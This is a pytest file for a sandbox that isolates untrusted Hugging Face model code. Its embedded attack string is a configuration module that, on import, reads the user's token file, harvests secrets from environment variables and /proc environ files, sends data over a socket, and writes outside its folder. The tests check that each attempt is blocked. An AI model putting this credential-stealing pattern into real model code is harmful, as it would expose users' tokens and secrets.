"""Attack 16.1: the model code in the verification child tries to steal secrets and escape.

A real child process (the same ``run_child`` publish, verify and ``doctor --load`` use) imports a
configuration module that tries to read the user's Hugging Face token by absolute path, reads
secrets from its environment, opens a socket, and writes outside its temporary folder. It
prints what it managed on stdout; the test reads that from the child's stdout tail.
"""

from __future__ import annotations

import json
import os
import socket
import threading
from pathlib import Path

import pytest

from hf_custom.verification.isolation import run_child
from hf_custom.verification.sandbox import landlock_abi, network_namespace

ATTACK = """
import json, os, socket
from transformers import PretrainedConfig

got = {}
try:
    got["token_file"] = open(TOKEN_FILE).read()
except OSError as exc:
    got["token_file_error"] = type(exc).__name__
got["env"] = {k: v for k, v in os.environ.items() if "SECRET" in v or v.startswith("hf_")}
leaks = []
for pid in [str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        if b"SECRET-" in open(f"/proc/{pid}/environ", "rb").read():
            leaks.append(pid)
    except OSError:
        pass
got["proc_environ_leaks"] = leaks
try:
    s = socket.create_connection(("127.0.0.1", PORT), timeout=3)
    s.sendall(b"stolen")
    s.close()
    got["socket"] = "connected"
except OSError as exc:
    got["socket"] = type(exc).__name__
try:
    with open(OUTSIDE, "w") as fh:
        fh.write("pwned")
    got["write_outside"] = "written"
except OSError as exc:
    got["write_outside"] = type(exc).__name__
print("ATTACK-RESULT " + json.dumps(got), flush=True)


class EvilConfig(PretrainedConfig):
    model_type = "evil"
"""


@pytest.fixture
def listener():
    """A TCP server on loopback that records whether anyone connected."""
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)
    srv.settimeout(15)
    seen: list[bytes] = []

    def accept() -> None:
        try:
            conn, _ = srv.accept()
            seen.append(conn.recv(100))
            conn.close()
        except OSError:
            pass

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield srv.getsockname()[1], seen
    srv.close()


def _evil_folder(root: Path, *, token_file: Path, port: int, outside: Path) -> Path:
    staged = root / "staged"
    staged.mkdir()
    code = ATTACK.replace("TOKEN_FILE", repr(str(token_file))).replace("PORT", str(port))
    (staged / "configuration_evil.py").write_text(code.replace("OUTSIDE", repr(str(outside))))
    (staged / "config.json").write_text(
        json.dumps(
            {"model_type": "evil", "auto_map": {"AutoConfig": "configuration_evil.EvilConfig"}}
        )
    )
    return staged


def _result(stdout: str) -> dict:
    for line in stdout.splitlines():
        if line.startswith("ATTACK-RESULT "):
            return json.loads(line[len("ATTACK-RESULT ") :])
    raise AssertionError(f"the attack did not run: {stdout[-2000:]}")


@pytest.mark.skipif(landlock_abi() == 0, reason="Landlock is not available on this kernel")
@pytest.mark.skipif(network_namespace() is None, reason="network namespaces are not permitted")
def test_model_code_cannot_steal_or_escape(tmp_path: Path, monkeypatch, listener) -> None:
    port, seen = listener
    hf_home = Path(os.environ["HF_HOME"])
    token_file = hf_home / "token"
    token_file.write_text("hf_" + "a" * 34)
    for name in ("HF_CUSTOM_HUB_TOKEN", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "DB_PASSWORD"):
        monkeypatch.setenv(name, f"SECRET-{name}")
    monkeypatch.setenv("LC_API_KEY", "SECRET-under-an-allowed-prefix")
    outside = tmp_path / "outside.txt"
    staged = _evil_folder(tmp_path, token_file=token_file, port=port, outside=outside)

    run = run_child({"mode": "verify", "staged": str(staged)}, timeout=120)

    got = _result(run.stdout_tail)
    assert "token_file" not in got, "the child read $HF_HOME/token"
    assert got["token_file_error"] == "PermissionError"
    assert got["env"] == {}
    assert got["socket"] != "connected" and seen == []
    assert got["write_outside"] != "written" and not outside.exists()
    assert "namespace" in run.sandbox.mechanisms[0]
    assert got["proc_environ_leaks"] == [], "the child read a secret in /proc/<pid>/environ"
    assert run.sandbox.mechanisms[1].startswith("landlock")
    assert run.sandbox.warnings == ()


def test_without_sandbox_the_report_says_so(tmp_path: Path, monkeypatch, listener) -> None:
    """The escape hatch is visible: no mechanism, and a warning naming what is missing."""
    port, _seen = listener
    monkeypatch.setenv("HF_CUSTOM_NO_SANDBOX", "1")
    staged = _evil_folder(
        tmp_path, token_file=tmp_path / "nothing", port=port, outside=tmp_path / "o.txt"
    )
    run = run_child({"mode": "verify", "staged": str(staged)}, timeout=120)
    assert run.sandbox.mechanisms == ()
    assert run.sandbox.warnings and "turned off" in run.sandbox.warnings[0]
    got = _result(run.stdout_tail)
    assert got["env"] == {}  # the environment allow-list holds even without a sandbox
